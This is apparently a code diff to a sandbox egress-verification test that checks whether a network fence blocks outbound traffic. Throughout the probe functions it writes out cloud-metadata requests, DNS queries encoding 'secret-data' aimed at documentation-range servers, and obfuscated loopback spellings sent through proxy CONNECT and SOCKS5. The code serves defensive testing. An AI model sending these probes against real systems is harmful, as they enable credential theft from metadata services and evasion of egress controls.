@@ -9,16 +9,18 @@ its like (RFC 5737, RFC 3849): nobody's.
 import os
 import socket
 import struct
+import threading
 
 from ringfence.verify.prelude import NO_PEER, Tally
 
 _NOBODY = ("192.0.2.1", "2001:db8::1")
 _PORTS = (22, 25, 53, 80, 443, 853, 3128, 3389, 6667, 8443)
 _LINKS = {"lo", "eth0"}
-_PATIENCE = 1.5
+_PATIENCE = 4.0  # the gate's process may only be starting
+_AT_ONCE = 24
 _UDP = (
     ("192.0.2.1", 443), ("192.0.2.1", 123), ("192.0.2.1", 9), ("2001:db8::1", 443), ("239.255.255.250", 1900),
-    ("224.0.0.251", 5353), ("255.255.255.255", 67), ("ff02::fb", 5353),
+    ("224.0.0.251", 5353), ("255.255.255.255", 67), ("ff02::fb%eth0", 5353), ("ff02::1%eth0", 5353), ("fe80::1%eth0", 443),
 )  # fmt: skip
 
 
@@ -27,21 +29,39 @@ def attack(facts):
     tally = Tally()
     names = {name for _, name in socket.if_nameindex()}
     tally.expect("interfaces", names <= _LINKS, ", ".join(sorted(names)))
-    _tcp(tally)
-    for address, port in _UDP:
-        _silent(tally, address, port)
-    _dns(tally)
-    _host(tally, facts)
+    tries = [*_tcp(), *((_silent, address, port) for address, port in _UDP), *_dns(), *_host(tally, facts)]
+    _together(tally, tries)
     return tally.finding()
 
 
-def _tcp(tally):
+def _together(tally, tries):
+    """Make many tries at once: most of their time is waiting."""
+    left = list(reversed(tries))
+
+    def work():
+        while True:
+            try:
+                call, *arguments = left.pop()
+            except IndexError:
+                return
+            call(tally, *arguments)
+
+    workers = [threading.Thread(target=work) for _ in range(_AT_ONCE)]
+    for one in workers:
+        one.start()
+    for one in workers:
+        one.join()
+
+
+def _tcp():
     for address in _NOBODY:
+        shown = f"[{address}]" if ":" in address else address
         for port in _PORTS:
-            request = b"" if port in {22, 25, 6667} else b"GET / HTTP/1.1\r\nHost: " + address.encode() + b"\r\n\r\n"
-            _answered(tally, f"TCP {address}:{port}", address, port, request)
+            request = b"" if port in {22, 25, 6667} else f"GET / HTTP/1.1\r\nHost: {shown}\r\n\r\n".encode()
+            yield _answered, f"TCP {shown}:{port}", address, port, request
     metadata = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
-    _answered(tally, "cloud metadata service", "169.254.169.254", 80, metadata)
+    yield _answered, "cloud metadata service", "169.254.169.254", 80, metadata
+    yield _answered, "IPv6 link-local", "fe80::1%eth0", 80, metadata
 
 
 def _answered(tally, name, address, port, request, token=b""):
@@ -49,7 +69,7 @@ def _answered(tally, name, address, port, request, token=b""):
     try:
         answer = _exchange(address, port, request)
     except OSError as error:
-        refused = error.errno in NO_PEER or error.errno in {104, 32, 110, None, 101, 22}
+        refused = error.errno in NO_PEER or error.errno in {104, 32, 110, None, 101, 22, 19}
         tally.expect(name, refused, type(error).__name__ if error.errno is None else os.strerror(error.errno))
         return
     verdict = _verdict(answer, token)
@@ -61,12 +81,20 @@ def _exchange(address, port, request):
     end = socket.socket(family, socket.SOCK_STREAM)
     end.settimeout(_PATIENCE)
     try:
-        end.connect((address, port))
+        end.connect(_place(address, port))
         if request:
             end.sendall(request)
         return _received(end)
     finally:
         end.close()
+
+
+def _place(address, port):
+    """Return what connect(2) takes, for a link-local address as well."""
+    if "%" not in address:
+        return (address, port)
+    plain, _, link = address.partition("%")
+    return (plain, port, 0, socket.if_nametoindex(link))
 
 
 def _received(end):
@@ -80,16 +108,18 @@ def _received(end):
             if b"\r\n\r\n" in answer:
                 break
     except TimeoutError:
-        pass
+        return answer or None
     except ConnectionError:
-        return answer or b""
+        return answer
     return answer
 
 
 def _verdict(answer, token):
     """Tell the gate's refusal from an upstream's answer: 502 and 504 mean that it tried to reach one."""
-    if token and token in answer:
+    if token and answer and token in answer:
         return "an answer"
+    if answer is None:
+        return "no answer"
     if not answer:
         return "closed without a byte"
     words = answer.split(None, 2)
@@ -107,7 +137,7 @@ def _silent(tally, address, port):
     end.settimeout(0.1)
     try:
         end.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
-        end.connect((address, port))
+        end.connect(_place(address, port))
         end.send(b"ringfence-verify")
         answer = end.recv(2048)
     except TimeoutError:
@@ -120,16 +150,20 @@ def _silent(tally, address, port):
         end.close()
 
 
-def _dns(tally):
+def _dns():
     """Ask for names that carry data: of a server on any address, over UDP and TCP, for several types."""
     question = b"".join(struct.pack("B", len(part)) + part for part in (b"c2VjcmV0LWRhdGE", b"ringfence-verify", b"test")) + b"\0"
     for kind, name in ((1, "A"), (28, "AAAA"), (16, "TXT"), (10, "NULL"), (15, "MX"), (65, "HTTPS")):
         query = struct.pack(">HHHHHH", 4660, 0x100, 1, 0, 0, 0) + question + struct.pack(">HH", kind, 1)
         for server in ("192.0.2.53", _nameserver()):
-            _resolved(tally, f"DNS {name} by {server}", server, query)
+            yield _resolved, f"DNS {name} by {server}", server, query
     query = struct.pack(">HHHHHH", 4660, 0x100, 1, 0, 0, 0) + question + struct.pack(">HH", 1, 1)
+    yield _resolved_by_stream, struct.pack(">H", len(query)) + query
+
+
+def _resolved_by_stream(tally, message):
     try:
-        answer = _exchange("192.0.2.53", 53, struct.pack(">H", len(query)) + query)
+        answer = _exchange("192.0.2.53", 53, message) or b""
     except OSError as error:
         tally.expect("DNS over TCP", True, str(error))  # noqa: FBT003
         return
@@ -183,25 +217,27 @@ def _host(tally, facts):
     port, token = facts.get("canary_port"), facts.get("token", "").encode()
     if not port:
         tally.skip("host loopback", "no canary")
-        return
+        return []
     spellings = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "::1", "::ffff:127.0.0.1", "100.64.0.1", "fd00:77::1"]  # noqa: S104
-    for address in [*spellings, *facts.get("host_addresses", [])]:
-        _answered(tally, f"host loopback as {address}", address, port, b"GET / HTTP/1.0\r\n\r\n", token)
+    tries = [
+        (_answered, f"host loopback as {address}", address, port, b"GET / HTTP/1.0\r\n\r\n", token)
+        for address in [*spellings, *facts.get("host_addresses", [])]
+    ]
     gate = facts.get("gate")
     if not gate:
-        return
+        return tries
     for name in ("127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "2130706433", "0x7f.1", "127.0.0.1.", "169.254.169.254"):  # noqa: S104
         connect = f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode()
-        _answered(tally, f"CONNECT {name}", gate[0], gate[1], connect, token)
+        tries.append((_answered, f"CONNECT {name}", gate[0], gate[1], connect, token))
         absolute = f"GET http://{name}:{port}/ HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode()
-        _answered(tally, f"GET http://{name}", gate[0], gate[1], absolute, token)
+        tries.append((_answered, f"GET http://{name}", gate[0], gate[1], absolute, token))
     socks = b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01" + struct.pack(">H", port)
-    _answered_socks(tally, gate, socks, token)
+    return [*tries, (_answered_socks, gate, socks, token)]
 
 
 def _answered_socks(tally, gate, request, token):
     try:
-        answer = _exchange(gate[0], gate[1], request)
+        answer = _exchange(gate[0], gate[1], request) or b""
     except OSError as error:
         tally.expect("SOCKS5 to the host", True, str(error))  # noqa: FBT003
         return
